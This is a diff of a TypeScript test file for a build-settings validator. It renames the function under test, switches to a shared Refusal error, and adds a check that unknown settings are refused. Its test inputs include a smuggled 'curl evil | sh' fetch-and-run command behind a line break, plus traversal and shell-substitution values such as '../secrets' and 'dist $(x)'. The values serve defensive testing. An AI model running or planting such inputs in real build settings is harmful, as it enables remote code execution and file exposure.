@@ -1,28 +1,33 @@
 import { describe, expect, it } from 'vitest';
-import { commandArgv, refuseSettings, SettingsError, validateSettings } from './build-settings.js';
+import { Refusal } from '../shared/refusal.js';
+import { commandArgv, parseBuildSettings, refuseSettings } from './build-settings.js';
 
-describe('validateSettings', () => {
+describe('parseBuildSettings', () => {
   it('accepts ordinary settings', () => {
     expect(() =>
-      validateSettings({ installCommand: 'npm ci', buildCommand: 'make build', outputDir: 'apps/web/dist', port: 8080 }),
+      parseBuildSettings({ installCommand: 'npm ci', buildCommand: 'make build', outputDir: 'apps/web/dist', port: 8080 }),
     ).not.toThrow();
   });
 
   it.each(['installCommand', 'buildCommand', 'startCommand'] as const)('refuses a line break in %s, naming it', (field) => {
-    expect(() => validateSettings({ [field]: 'npm test\nRUN curl evil | sh' })).toThrow(SettingsError);
-    expect(() => validateSettings({ [field]: 'a\rb' })).toThrow(new RegExp(`^${field} must be a single line`));
+    expect(() => parseBuildSettings({ [field]: 'npm test\nRUN curl evil | sh' })).toThrow(expect.objectContaining({ status: 400, field }));
+    expect(() => parseBuildSettings({ [field]: 'a\rb' })).toThrow(new RegExp(`^${field}: must be a single line`));
+  });
+
+  it('refuses a setting it does not know, rather than ignoring it', () => {
+    expect(() => parseBuildSettings({ startCommnd: 'node server.js' })).toThrow(Refusal);
   });
 
   it('refuses an empty command', () => {
-    expect(() => validateSettings({ buildCommand: '  ' })).toThrow(/^buildCommand is empty/);
+    expect(() => parseBuildSettings({ buildCommand: '  ' })).toThrow(/^buildCommand: is empty/);
   });
 
   it.each(['../secrets', '/etc', 'dist/', '.', 'a//b', 'dist $(x)', '.hidden'])('refuses outputDir %j', (outputDir) => {
-    expect(() => validateSettings({ outputDir })).toThrow(/^outputDir .* must be a relative path/);
+    expect(() => parseBuildSettings({ outputDir })).toThrow(/^outputDir: must be a relative path/);
   });
 
   it.each([0, 65536, 80.5, Number.NaN])('refuses port %d', (port) => {
-    expect(() => validateSettings({ port })).toThrow(/^port .* is not a whole number from 1 to 65535/);
+    expect(() => parseBuildSettings({ port })).toThrow(/^port: must be a whole number from 1 to 65535/);
   });
 });
 
